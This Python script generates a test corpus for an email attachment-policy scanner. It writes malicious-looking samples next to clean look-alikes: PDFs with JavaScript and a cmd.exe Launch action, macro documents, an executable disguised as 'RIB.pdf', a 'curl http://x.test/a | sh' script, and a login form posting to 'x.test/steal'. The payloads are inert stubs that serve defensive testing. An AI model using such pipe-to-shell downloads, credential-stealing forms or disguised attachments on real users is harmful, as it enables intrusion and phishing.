#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
# gen_content.py - writes the content corpus of tests/data/content: small
# files of every kind the attachment policy judges by content, and clean
# look-alikes.  Run once by a developer; the files are committed, so the
# tests need no Python.  Usage: python3 tests/tools/gen_content.py DIR
import io, os, struct, sys, zipfile, zlib, gzip

out = sys.argv[1] if len(sys.argv) > 1 else "tests/data/content"
os.makedirs(out, exist_ok=True)

def w(name, data):
    with open(os.path.join(out, name), "wb") as f:
        f.write(data)

def pdf(objs, extra_trailer=b""):
    """A PDF with a correct xref table; objs are the bodies of 1..n."""
    b = io.BytesIO()
    b.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offs = []
    for i, o in enumerate(objs, 1):
        offs.append(b.tell())
        b.write(b"%d 0 obj\n" % i + o + b"\nendobj\n")
    x = b.tell()
    b.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objs) + 1))
    for o in offs:
        b.write(b"%010d 00000 n \n" % o)
    b.write(b"trailer\n<< /Size %d /Root 1 0 R %s>>\nstartxref\n%d\n%%%%EOF\n"
            % (len(objs) + 1, extra_trailer, x))
    return b.getvalue()

page = (b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] "
        b"/Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>")
text = b"BT /F1 12 Tf 72 770 Td (RIB - IBAN FR76 3000 6000 0112 3456 7890 189) Tj ET"
contents = b"<< /Length %d >>\nstream\n" % len(text) + text + b"\nendstream"
font = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
pages = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"

w("clean.pdf", pdf([b"<< /Type /Catalog /Pages 2 0 R >>", pages, page,
                    contents, font]))
js = b"<< /S /JavaScript /JS (app.alert\\('x'\\);) >>"
w("js.pdf", pdf([b"<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >>",
                 pages, page, contents, font, js]))
w("js-hex.pdf", pdf([b"<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >>",
                     pages, page, contents, font,
                     b"<< /S /J#61vaScript /J#53 (app.alert\\('x'\\);) >>"]))
w("launch.pdf", pdf([b"<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >>",
                     pages, page, contents, font,
                     b"<< /S /Launch /F (cmd.exe) >>"]))
w("embedded.pdf", pdf([b"<< /Type /Catalog /Pages 2 0 R /Names << "
                       b"/EmbeddedFiles 6 0 R >> >>", pages, page, contents,
                       font, b"<< /Names [(a.exe) 7 0 R] >>",
                       b"<< /Type /Filespec /F (a.exe) >>"]))
w("aa.pdf", pdf([b"<< /Type /Catalog /Pages 2 0 R >>", pages,
                 b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] "
                 b"/AA << /O 6 0 R >> >>", contents, font,
                 b"<< /S /URI /URI (http://x.test/) >>"]))
# An object stream (PDF 1.5) holding the action, Flate-compressed.
inner_objs = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
header = b"6 0 "
objstm_data = zlib.compress(header + inner_objs)
objstm = (b"<< /Type /ObjStm /N 1 /First %d /Filter /FlateDecode /Length %d >>\nstream\n"
          % (len(header), len(objstm_data)) + objstm_data + b"\nendstream")
w("js-objstm.pdf", pdf([b"<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >>",
                        pages, page, contents, font, objstm]))
# The same with a clean object stream: a look-alike that must pass.
clean_stm = zlib.compress(b"6 0 << /Type /Font /Subtype /Type1 /BaseFont /Courier >>")
w("clean-objstm.pdf", pdf([b"<< /Type /Catalog /Pages 2 0 R >>", pages, page,
                           contents, font,
                           b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode "
                           b"/Length %d >>\nstream\n" % len(clean_stm) + clean_stm +
                           b"\nendstream"]))

# PNG 2x2, real (zlib'd scanlines, CRCs).
def chunk(t, d):
    return struct.pack(">I", len(d)) + t + d + struct.pack(">I", zlib.crc32(t + d) & 0xffffffff)
raw = b"".join(b"\x00" + b"\xff\x00\x00" * 2 for _ in range(2))
w("clean.png", b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 2, 2, 8, 2, 0, 0, 0))
  + chunk(b"IDAT", zlib.compress(raw)) + chunk(b"IEND", b""))
# A baseline JPEG header (JFIF APP0, a quantisation table, SOF0), enough
# for libmagic and for any reader to call it a JPEG.
jpeg = (b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
        b"\xff\xdb\x00\x43\x00" + bytes(range(1, 65)) +
        b"\xff\xc0\x00\x0b\x08\x00\x02\x00\x02\x01\x01\x11\x00"
        b"\xff\xda\x00\x08\x01\x01\x00\x00\x3f\x00\xd2\xcf\x20\xff\xd9")
w("clean.jpg", jpeg)

def z(entries):
    b = io.BytesIO()
    with zipfile.ZipFile(b, "w", zipfile.ZIP_DEFLATED) as f:
        for n, d in entries:
            # a fixed time: the same bytes at every run
            f.writestr(zipfile.ZipInfo(n, date_time=(2026, 11, 1, 0, 0, 0)),
                       d, compress_type=zipfile.ZIP_DEFLATED)
    return b.getvalue()

ct = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
      b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
      b'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
      b'<Default Extension="xml" ContentType="application/xml"/>'
      b'<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>'
      b'</Types>')
rels = (b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>')
doc = (b'<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
       b'<w:body><w:p><w:r><w:t>Attestation</w:t></w:r></w:p></w:body></w:document>')
w("clean.docx", z([("[Content_Types].xml", ct), ("_rels/.rels", rels),
                   ("word/document.xml", doc)]))
w("macro.docm", z([("[Content_Types].xml", ct), ("_rels/.rels", rels),
                   ("word/document.xml", doc),
                   ("word/vbaProject.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504)]))
w("clean.odt", z([("mimetype", b"application/vnd.oasis.opendocument.text"),
                  ("content.xml", b"<office:document-content/>"),
                  ("META-INF/manifest.xml", b"<manifest:manifest/>")]))
w("macro.odt", z([("mimetype", b"application/vnd.oasis.opendocument.text"),
                  ("content.xml", b"<office:document-content/>"),
                  ("Basic/Standard/Module1.xml", b"<script:module/>"),
                  ("META-INF/manifest.xml", b"<manifest:manifest/>")]))
w("archive.zip", z([("facture.exe", b"MZ" + b"\0" * 62)]))
w("archive.gz", gzip.compress(b"hello\n" * 10, mtime=0))
w("archive.7z", b"7z\xbc\xaf\x27\x1c\x00\x04" + b"\0" * 24)
w("archive.rar", b"Rar!\x1a\x07\x01\x00" + b"\0" * 24)

# OLE Compound File: header, one FAT sector, one directory sector.
def ole(names):
    hdr = bytearray(512)
    hdr[0:8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    struct.pack_into("<HHHH", hdr, 0x18, 0x3E, 3, 0xFFFE, 9)
    struct.pack_into("<H", hdr, 0x20, 6)
    struct.pack_into("<I", hdr, 0x2C, 1)       # FAT sectors
    struct.pack_into("<I", hdr, 0x30, 1)       # first directory sector
    struct.pack_into("<I", hdr, 0x38, 4096)
    struct.pack_into("<I", hdr, 0x3C, 0xFFFFFFFE)
    struct.pack_into("<I", hdr, 0x44, 0xFFFFFFFE)
    struct.pack_into("<I", hdr, 0x4C, 0)       # DIFAT[0] = FAT in sector 0
    for i in range(1, 109):
        struct.pack_into("<I", hdr, 0x4C + 4 * i, 0xFFFFFFFF)
    fat = bytearray(b"\xff" * 512)
    struct.pack_into("<II", fat, 0, 0xFFFFFFFD, 0xFFFFFFFE)
    d = bytearray()
    for i, (n, t) in enumerate(names):
        e = bytearray(128)
        u = n.encode("utf-16-le") + b"\0\0"
        e[0:len(u)] = u
        struct.pack_into("<H", e, 64, len(u))
        e[66] = t
        struct.pack_into("<III", e, 68, 0xFFFFFFFF, 0xFFFFFFFF,
                         1 if i == 0 and len(names) > 1 else 0xFFFFFFFF)
        struct.pack_into("<I", e, 116, 0xFFFFFFFE)
        d += e
    d += b"\0" * (512 - len(d))
    return bytes(hdr) + bytes(fat) + bytes(d[:512])

w("clean.doc", ole([("Root Entry", 5), ("WordDocument", 2), ("1Table", 2)]))
w("macro.doc", ole([("Root Entry", 5), ("WordDocument", 2), ("Macros", 1), ("VBA", 1)]))

# Executables: enough of each header for libmagic.
pe = bytearray(b"MZ" + b"\x90\x00" + b"\0" * 56 + struct.pack("<I", 64))
pe += b"PE\0\0" + struct.pack("<HHIIIHH", 0x14C, 1, 0, 0, 0, 0xE0, 0x102)
pe += struct.pack("<H", 0x10B) + b"\0" * (0xE0 - 2)
pe += b".text\0\0\0" + b"\0" * 32
pe += b"\0" * (512 - len(pe))
w("program.exe", bytes(pe))
elf = bytearray(b"\x7fELF\x02\x01\x01" + b"\0" * 9)
elf += struct.pack("<HHIQQQIHHHHHH", 2, 0x3E, 1, 0x401000, 64, 0, 0, 64, 56, 1, 64, 0, 0)
elf += struct.pack("<IIQQQQQQ", 1, 5, 0, 0x400000, 0x400000, 120, 120, 0x1000)
w("program.elf", bytes(elf))
w("program.macho", struct.pack("<IiiIIII", 0xFEEDFACF, 0x01000007, 3, 2, 0, 0, 0) + b"\0" * 100)
w("script.sh", b"#!/bin/sh\ncurl http://x.test/a | sh\n")

w("script.svg", b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
  b'<script>alert(1)</script><rect width="10" height="10"/></svg>\n')
w("login.html", b"<!DOCTYPE html>\n<html><head><title>Caf - connexion</title></head><body>"
  b'<form action="http://x.test/steal" method="post"><input name="login"><input type="password" name="pw">'
  b"</form></body></html>\n")

w("uuencoded.txt", b"Bonjour,\n\nvoici le document.\n\nbegin 644 rib.exe\n"
  b"M35J0``,````$````__\\``+@`````````0```````````````````````````\n`\nend\n")
w("yenc.txt", b"Bonjour,\n=ybegin line=128 size=64 name=rib.exe\n\x77\x84\x2a\n=yend size=64\n")
w("binhex.txt", b"(This file must be converted with BinHex 4.0)\n:#'CTE'8ZG(Kd!&4&@&4,38K-!!!!!!!\n")
w("clean.txt", b"Bonjour,\nje commence (begin) le dossier le 3 novembre.\nbegin with care.\n"
  b"Cordialement\n")
w("clean.csv", b"nom;prenom;iban\nDUPONT;Marie;FR76 3000 6000 0112 3456 7890 189\n")

# Outlook's winmail.dat (TNEF): attributes level, id, length, data,
# checksum; each attachment opens with attAttachRendData, then its title
# and its data (attAttachTitle, attAttachData).
def tnef(files):
    def attr(level, aid, data):
        return (struct.pack("<BII", level, aid, len(data)) + data +
                struct.pack("<H", sum(data) & 0xffff))
    b = struct.pack("<IH", 0x223E9F78, 0x0001)
    b += attr(1, 0x00089006, struct.pack("<I", 0x00010000))  # attTnefVersion
    b += attr(1, 0x00078008, b"IPM.Microsoft Mail.Note\0")   # attMessageClass
    for name, data in files:
        b += attr(2, 0x00069002, b"\x01\x00" + b"\xff" * 12)  # attAttachRendData
        b += attr(2, 0x00018010, name + b"\0")                # attAttachTitle
        b += attr(2, 0x0006800F, data)                         # attAttachData
    return b

w("winmail-exe.dat", tnef([(b"RIB.pdf", bytes(pe))]))
w("winmail-clean.dat", tnef([(b"RIB.pdf", pdf([b"<< /Type /Catalog /Pages 2 0 R >>",
                                                pages, page, contents, font]))]))
